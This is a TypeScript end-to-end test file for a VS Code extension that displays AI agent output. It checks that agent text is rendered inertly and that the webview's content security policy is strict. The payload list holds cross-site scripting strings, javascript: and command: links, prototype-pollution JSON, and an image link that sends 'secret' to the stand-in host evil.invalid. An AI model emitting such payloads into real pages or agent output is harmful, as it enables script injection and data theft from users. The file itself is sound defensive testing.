// Hostile words on their way through a real window: what an agent says is text, wherever it is shown.
import { expect } from 'vitest'
import { until } from './harness/until.js'
import { vscodeTest } from './harness/vscodeTest.js'
import { said, scriptedChild, showChild, stopAll } from './panelParts.js'

const test = vscodeTest()

const payloads = [
  '<img src=x onerror="parent.pwned=1;window.pwned=1">',
  '<svg onload="window.pwned=1"></svg>',
  '</script><script>window.pwned=1</script>',
  '[x](javascript:window.pwned=1)',
  '[x](data:text/html,<script>window.pwned=1</script>)',
  '[x](command:workbench.action.terminal.new)',
  '[x](vscode://coxswain.coxswain/child/x)',
  '![leak](https://evil.invalid/?q=secret)',
  '~~~mermaid\ngraph TD; A-->B[<img src=https://evil.invalid/m>]\n~~~',
  '$$\\href{javascript:alert(1)}{x}$$',
  '{"__proto__":{"polluted":true}}',
  '**[bold](https://evil.invalid/b)** `<img src=https://evil.invalid/c>`',
]

test('no word of an agent runs, loads or links anything in the panel', async ({ workbench, repository, home }) => {
  const asked: string[] = []
  workbench.page.on('request', (request) => asked.push(request.url()))
  await workbench.showContainer('Coxswain')
  await scriptedChild(home, repository, 'Speak', [
    ...payloads.map((text) => ({ say: text })),
    { run: ['printf', '%s', payloads.join('\n')] },
    { think: payloads.join('\n') },
    { print: payloads[0] },
    { warn: payloads[1] },
    { ask: { tool: '<img src=x onerror=window.pwned=1>', input: { command: payloads.join(' ') } } },
    { hang: 'here' },
  ])
  const panel = await showChild(workbench, 'Speak')
  await panel.locator('.request').getByText('javascript:').waitFor()
  const frame = await workbench.webviewFrame()
  // Unfold everything, from the end to the beginning: a row is built when it comes into view.
  for (const place of [1, 0.7, 0.4, 0.2, 0]) {
    await panel
      .locator('.scroller')
      .evaluate((element, part) => (element.scrollTop = element.scrollHeight * part), place)
    await until('the rows in view have come', async () => (await panel.locator('.row-missing').count()) === 0)
    await frame.evaluate(
      "document.querySelectorAll('.scroller details:not([open]) > summary').forEach((one) => one.click())",
    )
  }
  expect(await frame.evaluate('window.pwned')).toBeUndefined()
  expect(await frame.evaluate('({}).polluted')).toBeUndefined()
  // The page's only script is ours; rows hold no element that could load or lead anywhere.
  expect(
    await frame.evaluate(
      "document.querySelectorAll('#root a, #root img, #root svg, #root script, #root iframe, #root object, #root style').length",
    ),
  ).toBe(0)
  expect(asked.filter((url) => url.includes('evil.invalid'))).toEqual([])
  await panel.locator('.scroller').evaluate((element) => (element.scrollTop = 0))
  await said(panel, payloads[0] ?? '').waitFor()
  await stopAll(home, repository)
})

test('the page’s policy is strict, and its nonce is new on every load', async ({ workbench, repository, home }) => {
  await workbench.showContainer('Coxswain')
  await scriptedChild(home, repository, 'Wait', [{ hang: 'here' }])
  const look = async (): Promise<{ policy: string; nonce: string; scripts: number }> => {
    await showChild(workbench, 'Wait')
    return (await workbench.webviewFrame()).evaluate(`({
      policy: document.querySelector('meta[http-equiv="Content-Security-Policy"]').content,
      nonce: document.querySelector('meta[property="csp-nonce"]').content,
      scripts: document.querySelectorAll('script:not([nonce])').length,
    })`)
  }
  const first = await look()
  expect(first.policy).toContain("default-src 'none'")
  expect(first.policy).toContain("require-trusted-types-for 'script'")
  expect(first.policy).not.toMatch(/unsafe-inline|unsafe-eval|\*(?!\.vscode-cdn\.net)|data:|blob:/)
  expect(first.nonce.length).toBeGreaterThanOrEqual(24)
  await workbench.run('View: Close Editor')
  await workbench.page.locator('iframe.webview').first().waitFor({ state: 'detached' })
  const second = await look()
  expect(second.nonce).not.toBe(first.nonce)
  await stopAll(home, repository)
})

test('titles, questions and refusals reach VS Code’s own surfaces as plain words', async ({
  workbench,
  repository,
  home,
}) => {
  await workbench.showContainer('Coxswain')
  const title = '[a](command:workbench.action.terminal.new) $(trash) \u202e\u001b[31mx'
  await scriptedChild(home, repository, title, [{ say: 'on' }, { ask: title }, { hang: 'here' }])
  const row = workbench.row(/command:workbench/)
  await row.waitFor()
  expect(await row.getAttribute('aria-label')).toMatch(
    /^\[a\]\(command:workbench\.action\.terminal\.new\) \$\(trash\) x, /,
  )
  expect(await row.locator('.codicon-trash').count()).toBe(0)

  await workbench.run('Coxswain: Stop…')
  await workbench.quickPickRows.first().waitFor()
  expect(await workbench.quickPickRows.first().innerText()).toContain('$(trash)')
  expect(await workbench.quickPickRows.first().locator('.codicon-trash').count()).toBe(0)
  await workbench.page.keyboard.press('Enter')
  expect(await workbench.dialog.innerText()).toContain('[a] (command:workbench.action.terminal.new) $(trash) x')
  expect(await workbench.dialog.locator('a[href]').count()).toBe(0)
  await workbench.answerDialog('Stop')
  await expect.poll(() => workbench.treeText()).toMatch(/^Finished, 1 child/)
  await stopAll(home, repository)
})

test('a key in the tree acts on the row that has the focus, whichever is selected', async ({
  workbench,
  repository,
  home,
}) => {
  await workbench.showContainer('Coxswain')
  await scriptedChild(home, repository, 'First child', [{ hang: 'here' }])
  await scriptedChild(home, repository, 'Second child', [{ hang: 'here' }])
  await workbench.row(/Second child/).waitFor()
  await workbench.row(/First child/).click()
  await workbench.page.keyboard.press('ArrowUp')
  await workbench.page.keyboard.press('Control+Enter')
  await workbench.page.locator('.quick-input-title').getByText('Steer “Second child”').waitFor()
  await workbench.answer('Open lib/auth.py.')
  const panel = await showChild(workbench, 'Second child')
  await panel.locator('.card.steer').getByText('Open lib/auth.py.').waitFor()
  await workbench.row(/First child/).click()
  await workbench.page.keyboard.press('F2')
  await workbench.answer('Renamed child')
  await workbench.row(/Renamed child/).waitFor()
  await workbench.row(/Second child/).waitFor()
  await stopAll(home, repository)
})
